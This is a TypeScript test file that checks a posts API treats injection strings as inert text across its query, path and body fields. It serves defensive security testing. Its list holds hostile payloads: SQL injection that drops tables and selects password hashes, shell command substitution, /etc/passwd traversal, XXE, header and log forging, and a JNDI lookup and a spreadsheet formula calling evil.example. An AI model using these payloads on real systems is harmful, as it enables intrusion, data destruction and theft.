import { useService } from '../../support/app';
import { givenPost } from '../../support/posts';

/** Texts that mean something to an interpreter behind some service: SQL, shells, templates, headers, logs, sheets, documents. */
const INJECTIONS = [
  "'",
  "' OR '1'='1",
  "'; DROP TABLE post; --",
  "' UNION SELECT password_hash FROM app_user --",
  '1); SELECT pg_sleep(30); --',
  '"; DELETE FROM queue_entry; --',
  '$1',
  '$$; DROP TABLE post; $$',
  "E'\\'; DROP TABLE post; --",
  '\\',
  '%',
  '_%_',
  "a' & 'b' | !c:* <-> (",
  '{"$gt": ""}',
  '__proto__.polluted',
  'constructor.prototype',
  '{{7*7}}${7*7}<%= 7*7 %>#{7*7}',
  '$(id)`id`; id | id && id',
  '../../../../etc/passwd',
  '*)(uid=*))(|(uid=*',
  'x\r\nSet-Cookie: sluice_session=stolen\r\n\r\n<html>',
  '\u001b[2J\u001b]0;owned\u0007\nERROR forged line',
  '<img src=x onerror=alert(1)>',
  '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
  '=HYPERLINK("https://evil.example";"x")',
  'javascript:alert(1)//',
  '${jndi:ldap://evil.example/x}',
];

describe('a text that means something to an interpreter', () => {
  const service = useService();
  let id: number;
  beforeAll(async () => {
    id = await givenPost(service);
  });

  it.each(INJECTIONS)('is a text and nothing else: %j', async (text) => {
    const encoded = encodeURIComponent(text);
    const reads = [
      `/posts?q=${encoded}`,
      `/posts?author=${encoded}`,
      `/posts?error_reason=${encoded}`,
      `/posts?language=${encoded}`,
      `/posts?sort=${encoded}`,
      `/posts?cursor=${encoded}`,
      `/posts?stream_id=${encoded}`,
      `/posts/${encoded}`,
      `/curated/preview?limit=${encoded}`,
      `/stats/activity?from=${encoded}`,
      `/reblog-controls/blocked-users?skip=${encoded}`,
    ];
    for (const path of reads) {
      const answer = await service.api.get(path);
      expect([path, [200, 404, 422].includes(answer.status)]).toEqual([path, true]);
      expect(answer.headers['content-type']).toBe('application/json; charset=utf-8');
      expect(Object.keys(answer.headers)).not.toContain('set-cookie');
      expect(answer.text).not.toMatch(/scrypt\$|root:x:|syntax error|at .*\.js:\d/);
    }
    const { body } = await service.api.patch(`/posts/${id}`).send({ reviewer_notes: text }).expect(200);
    expect(body.reviewer_notes).toBe(text);
    const blocked = await service.api
      .post('/reblog-controls/blocked-users')
      .send({ account_id: '@spam@spam.example', reason: text })
      .expect(201);
    expect(blocked.body.reason).toBe(text);
    await service.api.delete(`/reblog-controls/blocked-users/${blocked.body.id}`).expect(204);
    for (const [path, sent] of [
      ['/hashtags', { hashtag: text, instance: text }],
      ['/topical-tags', { hashtag: text, topical_day_of_week: text }],
      ['/reblog-controls/blocked-hashtags', { hashtag: text }],
      ['/reblog-controls/blocked-users', { account_id: text }],
      [`/posts/${id}/review`, { approved: text }],
      ['/posts/batch-score', { post_ids: [text] }],
    ] as const) {
      const answer = await service.api.post(path).send(sent);
      expect([path, [400, 422].includes(answer.status)]).toEqual([path, true]);
    }
  });

  it('changed nothing but the notes', async () => {
    const [counts] = await service.db.query(
      `SELECT (SELECT count(*)::int FROM post) AS posts, (SELECT count(*)::int FROM queue_entry) AS entries,
              (SELECT count(*)::int FROM app_user) AS users, (SELECT count(*)::int FROM blocked_user) AS blocked`,
    );
    expect(counts).toEqual({ posts: 1, entries: 1, users: 1, blocked: 0 });
    expect(({} as Record<string, unknown>)['polluted']).toBeUndefined();
  });

  it('is no id of a request: the service makes one of its own', async () => {
    for (const text of INJECTIONS.filter((each) => /^[\x20-\x7e]+$/.test(each) && !/^[\w-]+$/.test(each))) {
      const answer = await service.api.get('/posts?limit=1').set('X-Request-Id', text).expect(200);
      expect(answer.headers['x-request-id']).toMatch(/^[0-9a-f-]{36}$/);
    }
  });
});
